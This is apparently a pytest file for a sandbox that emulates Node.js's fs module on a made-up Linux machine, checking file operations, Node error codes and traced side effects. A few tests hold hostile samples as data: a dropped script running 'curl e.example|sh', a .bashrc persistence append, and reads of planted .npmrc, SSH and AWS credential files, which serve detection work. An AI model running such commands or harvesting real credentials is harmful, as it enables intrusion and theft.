"""The module fs: files of a made-up Linux machine, in each of its three forms."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from .node_runs import Node, playing_node


@pytest.fixture(scope="module")
def node(outlives_tests: None) -> Iterator[Node]:
    with playing_node() as playing:
        yield playing


def test_what_is_written_can_be_read_in_all_three_forms(node: Node) -> None:
    source = """
      const fs = require("fs");
      fs.writeFileSync("/tmp/a.txt", "one");
      fs.appendFile("/tmp/a.txt", " two", () => {
        say(fs.readFileSync("/tmp/a.txt").toString());
        fs.promises.readFile("/tmp/a.txt", "utf8").then((text) => say(text.length));
      });
    """
    assert node.said(source) == '["one two",7]'


def test_a_dropped_file_is_told_with_its_content(node: Node) -> None:
    result = node.run("require('fs').writeFileSync('/tmp/.x.sh', '#!/bin/sh\\ncurl e.example|sh')")
    assert result.trace is not None
    (effect,) = result.side_effects
    (artifact,) = result.trace.artifacts
    assert (effect.kind, effect.operation, effect.target) == ("file", "write", "/tmp/.x.sh")
    assert bytes(artifact.content) == b"#!/bin/sh\ncurl e.example|sh"


@pytest.mark.parametrize(
    ("call", "message", "errno"),
    [
        ("readFileSync('/no')", "ENOENT: no such file or directory, open '/no'", -2),
        ("readFileSync('/tmp')", "EISDIR: illegal operation on a directory, read", -21),
        ("unlinkSync('/no')", "ENOENT: no such file or directory, unlink '/no'", -2),
        ("readdirSync('/no')", "ENOENT: no such file or directory, scandir '/no'", -2),
        ("mkdirSync('/tmp')", "EEXIST: file already exists, mkdir '/tmp'", -17),
        ("renameSync('/no', '/x')", "ENOENT: no such file or directory, rename '/no' -> '/x'", -2),
        ("accessSync('/no')", "ENOENT: no such file or directory, access '/no'", -2),
        ("rmdirSync('/etc')", "ENOTEMPTY: directory not empty, rmdir '/etc'", -39),
        ("readSync(99, Buffer.alloc(1))", "EBADF: bad file descriptor, read", -9),
    ],
)
def test_a_failure_has_the_words_and_the_number_of_nodes(
    node: Node, call: str, message: str, errno: int
) -> None:
    source = f"try {{ require('fs').{call} }} catch (e) {{ [e.message, e.errno, e.code] }}"
    assert node.value(source) == [message, errno, message.split(":", 1)[0]]


@pytest.mark.parametrize(
    ("call", "code"),
    [
        ("readFileSync(undefined)", "ERR_INVALID_ARG_TYPE"),
        ("readFileSync('a\\0b')", "ERR_INVALID_ARG_VALUE"),
        ("readFile('/x')", "ERR_INVALID_ARG_TYPE"),
        ("writeFileSync('/tmp/x', 5)", "ERR_INVALID_ARG_TYPE"),
        ("readFileSync('/x', 'nope')", "ERR_UNKNOWN_ENCODING"),
        ("closeSync('1')", "ERR_INVALID_ARG_TYPE"),
        ("readFileSync({ href: 'http://x/', protocol: 'http:' })", "ERR_INVALID_URL_SCHEME"),
    ],
)
def test_bad_arguments_are_refused_with_nodes_code(node: Node, call: str, code: str) -> None:
    assert node.thrown(f"require('fs').{call}")[1] == code


def test_a_path_that_is_too_long_is_refused_before_it_is_looked_for(node: Node) -> None:
    assert node.thrown("require('fs').statSync('x'.repeat(5000))")[1] == "ENAMETOOLONG"
    assert node.value("require('fs').existsSync('x'.repeat(5000))") is False


def test_folders_are_listed_and_their_entries_told_apart(node: Node) -> None:
    source = """
      const fs = require("fs");
      fs.mkdirSync("/tmp/d/e", { recursive: true }); fs.writeFileSync("/tmp/d/f", "");
      const kinds = fs.readdirSync("/tmp/d", { withFileTypes: true }).map((d) => [d.name,
        d.isFile()]);
      fs.rmSync("/tmp/d", { recursive: true });
      [kinds, fs.existsSync("/tmp/d"), fs.statSync("/tmp").isDirectory(), fs.statSync("/no",
        { throwIfNoEntry: false })]
    """
    expected = [[["e", False], ["f", True]], False, True]
    assert node.value(source)[:3] == expected


def test_an_open_file_is_written_and_read_piece_by_piece(node: Node) -> None:
    source = """
      const fs = require("fs"), fd = fs.openSync("/tmp/f", "w+");
      fs.writeSync(fd, "abcdef"); fs.writeSync(fd, Buffer.from("XY"), 0, 2, 1);
      const to = Buffer.alloc(3);
      const count = fs.readSync(fd, to, 0, 3, 0);
      fs.closeSync(fd);
      [count, to.toString(), fs.readFileSync("/tmp/f", "utf8")]
    """
    assert node.value(source) == [3, "aXY", "aXYdef"]


def test_streams_copy_a_file(node: Node) -> None:
    source = """
      const fs = require("fs");
      fs.writeFileSync("/tmp/from", "streamed");
      fs.createReadStream("/tmp/from").pipe(fs.createWriteStream("/tmp/to"))
        .on("finish", () => say(fs.readFileSync("/tmp/to", "utf8")));
      (async () => { for await (const c of fs.createReadStream("/tmp/from", "utf8")) say(c); })();
    """
    assert node.said(source) == '["streamed","streamed"]'


def test_a_stream_of_a_file_that_is_not_there_fails_with_an_event(node: Node) -> None:
    source = 'require("fs").createReadStream("/no").on("error", (e) => say(e.code)).resume();'
    assert node.said(source) == '["ENOENT"]'


def test_a_profile_that_starts_with_the_shell_is_persistence(node: Node) -> None:
    source = "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'evil &')"
    kinds = {kind for kind, _, _ in node.effects(source)}
    assert kinds == {"file", "persistence"}


def test_secrets_lie_where_thieves_look_for_them(node: Node) -> None:
    source = """
      const fs = require("fs"), at = (name) => require("os").homedir() + "/" + name;
      [fs.readFileSync(at(".npmrc"), "utf8").includes("_authToken"),
        fs.existsSync(at(".ssh/id_rsa")),
        fs.readFileSync(at(".aws/credentials"), "utf8").includes(process.env.AWS_ACCESS_KEY_ID)]
    """
    assert node.value(source) == [True, True, True]
